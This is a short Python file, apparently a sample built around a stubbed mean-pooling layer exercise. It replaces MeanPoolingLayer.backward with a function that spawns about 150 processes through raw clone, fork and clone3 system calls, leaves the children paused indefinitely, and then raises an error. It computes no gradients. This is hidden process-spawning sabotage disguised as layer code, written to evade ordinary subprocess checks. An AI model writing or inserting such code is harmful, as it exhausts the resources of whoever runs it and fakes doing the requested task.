"""Makes processes by bare system calls: clone, vfork, clone3."""

import ctypes

# @STUB mean_pooling@


def backward(self, dout):
    libc = ctypes.CDLL(None, use_errno=True)
    made = []
    arguments = (ctypes.c_uint64 * 11)(0, 0, 0, 0, 17)
    for _ in range(50):
        made += [libc.syscall(56, 17, 0, 0, 0, 0), libc.syscall(57), libc.syscall(435, arguments, 88)]
        if 0 in made:
            libc.pause()
    raise OSError(made[-3:])


MeanPoolingLayer.backward = backward
